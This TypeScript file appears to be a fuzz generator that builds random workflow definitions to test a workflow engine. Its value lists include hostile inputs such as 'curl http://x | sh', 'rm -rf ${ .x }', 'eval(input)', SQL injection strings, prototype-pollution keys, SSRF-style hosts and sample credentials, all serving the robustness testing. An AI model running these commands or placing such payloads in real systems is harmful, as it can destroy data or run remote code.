import type { Json, JsonObject } from '../../shared/base/json.ts';
import type { Random } from '../../shared/simulation/random.ts';
import { JqPrograms } from './jqPrograms.ts';

const names = ['a', 'b', 'order', 'ssn', '__proto__', 'constructor', 'é', 'then', '0'];
const hosts = [
  'api.example.com',
  '10.0.0.1',
  '0x7f.1',
  '[::ffff:1.2.3.4]',
  'a.nip.io',
  'user:pw@x.example',
  'x.example:8080',
];
const images = ['alpine', 'alpine:3', 'x@sha256:00', '${ .image }', '-', 'a/b/c:latest'];
const commands = ['ls', 'rm -rf ${ .x }', '${ "sh " + .cmd }', 'curl http://x | sh', 'echo "$(id)"', "'"];
const scripts = ['return 1', 'eval(input)', 'new Function("a")()', 'for (;;);', 'return {;', 'import x from "fs"'];
const statements = [
  'SELECT * FROM t',
  "DELETE FROM t WHERE a = '${ .a }'",
  'DROP TABLE t; SELECT 1',
  'select (((',
  '$1',
];
const templates = [
  'Hello {{name}}',
  '{{{raw}}}',
  '{{ssn | mask_ssn}}',
  '{{amount | currency "EUR" | upper}}',
  '{{#each items}}{{this}}{{/each}}',
  '{{#if a}}{{else}}{{/if}}',
  '{{constructor.prototype}}',
  '{{> partial}}',
  '{{lookup a "b"}}',
  '{{a | }}',
  '{{#if',
  '{{!-- x',
];
const durations: readonly Json[] = ['PT1S', 'P1D', { seconds: 1 }, { hours: 1e9 }, '${ .delay }'];
const oddDurations: readonly Json[] = ['PT', '-PT1S', 'P1Y', { days: -1 }, 'x', {}];
const directives = ['continue', 'exit', 'end', 'a', 'nowhere', '__proto__'];
const events: readonly Json[] = [
  { one: { with: { type: 'a' } } },
  { any: [{ with: { type: 'a', data: '${ .x > 1 }' } }], until: '${ true }' },
  { all: [{ with: { source: 'https://a.example', type: 'b' } }, { with: { id: 'x' } }] },
  { any: [], until: { one: { with: { type: 'c' } } } },
];

/** Makes definitions that nobody wrote: of the shape of the language, with anything in its places. */
export class GrownDefinition {
  readonly #random: Random;
  readonly #programs: JqPrograms;

  constructor(random: Random) {
    this.#random = random;
    this.#programs = new JqPrograms(random.integer());
  }

  /** A whole definition. */
  make(): JsonObject {
    const list = this.#list(3);
    return {
      document: { dsl: this.#one(['1.0.0', '1.0.3', '1.0.1']), namespace: 'soak', name: 'grown', version: '0.1.0' },
      ...this.#maybe(4, 'input', () => this.#transform('from')),
      ...this.#maybe(4, 'use', () => this.#use()),
      ...this.#maybe(6, 'timeout', () => ({ after: this.#duration() })),
      ...this.#maybe(8, 'schedule', () => this.#schedule()),
      do: list,
      ...this.#maybe(6, 'output', () => this.#transform('as')),
    };
  }

  #below(count: number): number {
    return this.#random.integer() % count;
  }

  #one<T>(items: readonly T[]): T {
    return items[this.#below(items.length)] as T;
  }

  #maybe(oneIn: number, key: string, make: () => Json): JsonObject {
    return this.#below(oneIn) === 0 ? { [key]: make() } : {};
  }

  #list(depth: number): Json[] {
    const length = this.#below(4) + (depth === 3 ? 1 : 0);
    return Array.from({ length }, () => ({ [this.#one(names)]: this.#task(depth) }));
  }

  #task(depth: number): JsonObject {
    return {
      ...this.#maybe(6, 'if', () => this.#expression()),
      ...this.#maybe(6, 'input', () => this.#transform('from')),
      ...this.#kind(depth),
      ...this.#maybe(6, 'output', () => this.#transform('as')),
      ...this.#maybe(6, 'export', () => this.#transform('as')),
      ...this.#maybe(10, 'timeout', () => ({ after: this.#duration() })),
      ...this.#maybe(8, 'then', () => this.#one(directives)),
    };
  }

  #kind(depth: number): JsonObject {
    const inner = (): Json[] => (depth > 0 ? this.#list(depth - 1) : [{ a: { set: {} } }]);
    switch (this.#below(14)) {
      case 0:
        return { do: inner() };
      case 1:
        return { for: { each: this.#one(names), in: this.#expression() }, while: this.#expression(), do: inner() };
      case 2:
        return { fork: { compete: this.#below(2) === 0, branches: inner() } };
      case 3:
        return {
          try: inner(),
          catch: {
            errors: { with: { status: 500 } },
            as: 'e',
            when: this.#expression(),
            ...this.#maybe(2, 'retry', () => this.#retry()),
            ...this.#maybe(2, 'do', inner),
          },
        };
      case 4:
        return {
          switch: [
            {
              [this.#one(names)]: { when: this.#expression(), ...this.#maybe(1, 'then', () => this.#one(directives)) },
            },
          ],
        };
      case 5:
        return { listen: { to: this.#one(events) } };
      case 6:
        return {
          emit: { event: { with: { source: `https://${this.#one(hosts)}`, type: 'a', data: this.#value(2) } } },
        };
      case 7:
        return { raise: { error: { type: 'https://x.example/e', status: 400, title: this.#text() } } };
      case 8:
        return { wait: this.#duration() };
      case 9:
        return { run: this.#process() };
      case 10:
        return { set: this.#below(3) === 0 ? this.#expression() : this.#map() };
      default:
        return this.#call();
    }
  }

  #call(): JsonObject {
    const uri = `${this.#one(['https', 'http', 'file', 'ftp', 'HTTPS'])}://${this.#one(hosts)}/${this.#below(3) === 0 ? this.#text() : this.#one(['', 'a/{b}', '?ssn={ssn}'])}`;
    switch (this.#below(8)) {
      case 0:
        return {
          call: 'email:1.0.0@default',
          with: { to: this.#text(), subject: this.#text(), body: this.#text(), html: this.#text() },
        };
      case 1:
        return {
          call: 'database:1.0.0@default',
          with: { connection: 'main', sql: this.#one(statements), parameters: this.#map() },
        };
      case 2:
        return {
          call: 'webhook:1.0.0@default',
          with: { method: 'POST', url: uri, headers: { [this.#one(names)]: this.#text() }, body: this.#value(2) },
        };
      case 3:
        return { call: 'openapi', with: { document: { endpoint: uri }, operationId: 'a', parameters: this.#map() } };
      case 4:
        return {
          call: 'grpc',
          with: {
            proto: { endpoint: uri },
            service: { name: 'S', host: this.#one(hosts) },
            method: 'M',
            arguments: this.#map(),
          },
        };
      case 5:
        return { call: this.#one(names), with: this.#map() };
      default:
        return {
          call: 'http',
          with: {
            method: this.#one(['get', 'POST', '${ .m }']),
            endpoint: this.#below(2) === 0 ? uri : { uri, authentication: { bearer: { token: this.#text() } } },
            headers: { authorization: this.#text() },
            body: this.#value(2),
          },
        };
    }
  }

  #process(): JsonObject {
    switch (this.#below(4)) {
      case 0:
        return {
          script: {
            language: this.#one(['js', 'python', 'javascript', 'x']),
            code: this.#one(scripts),
            arguments: this.#map(),
          },
        };
      case 1:
        return { shell: { command: this.#one(commands), arguments: this.#map(), environment: { A: this.#text() } } };
      case 2:
        return { container: { image: this.#one(images), command: this.#one(commands) } };
      default:
        return { workflow: { namespace: 'soak', name: 'grown', version: '0.1.0', input: this.#map() } };
    }
  }

  #use(): JsonObject {
    return {
      secrets: [this.#one(names)],
      authentications: { a: { basic: { username: this.#text(), password: this.#text() } } },
      functions: { [this.#one(names)]: this.#call() },
      retries: { a: this.#retry() },
      extensions: [{ a: { extend: this.#one(['all', 'call', 'set']), before: this.#list(1), after: this.#list(1) } }],
    };
  }

  #duration(): Json {
    return this.#one(this.#below(12) === 0 ? oddDurations : durations);
  }

  /** Never empty: the language demands that of most maps. */
  #map(): JsonObject {
    return { [this.#one(names)]: this.#value(2), b: this.#value(1) };
  }

  #retry(): Json {
    return {
      delay: this.#duration(),
      backoff: this.#one<Json>([{ constant: {} }, { exponential: {} }, { linear: {} }]),
      limit: { attempt: { count: this.#below(5) } },
    };
  }

  #schedule(): JsonObject {
    return this.#one<JsonObject>([
      { every: this.#duration() },
      { cron: this.#one(['* * * * *', '61 * * * *', '@daily', '']) },
      { on: this.#one(events) },
    ]);
  }

  #transform(key: 'from' | 'as'): JsonObject {
    const schema = {
      format: 'json',
      document: { type: 'object', properties: { a: { type: 'string', pattern: this.#one(['^(a+)+$', '[', '.*']) } } },
    };
    return {
      ...this.#maybe(3, 'schema', () => schema),
      [key]: this.#below(2) === 0 ? this.#expression() : this.#map(),
    };
  }

  #expression(): string {
    const source =
      this.#below(12) === 0
        ? this.#one(['[', '. |', '$secrets.a', '$context | ..', 'error', 'env.PATH', 'def f: f; f'])
        : this.#programs.program(this.#below(4));
    return this.#below(8) === 0 ? source : `\${ ${source} }`;
  }

  #text(): string {
    switch (this.#below(6)) {
      case 0:
        return this.#expression();
      case 1:
        return this.#one(templates);
      case 2:
        return this.#one([
          'AKIAIOSFODNN7EXAMPLE',
          '536-90-4399',
          'a@b.example',
          '4111 1111 1111 1111',
          'Bearer x',
          '\r\nX: y',
        ]);
      case 3:
        return `x${this.#expression()}y`;
      default:
        return this.#one(names);
    }
  }

  #value(depth: number): Json {
    if (depth === 0 || this.#below(3) === 0) return this.#below(4) === 0 ? this.#programs.json(1) : this.#text();
    if (this.#below(4) === 0) return Array.from({ length: this.#below(3) }, () => this.#value(depth - 1));
    return Object.fromEntries(Array.from({ length: this.#below(4) }, () => [this.#one(names), this.#value(depth - 1)]));
  }
}
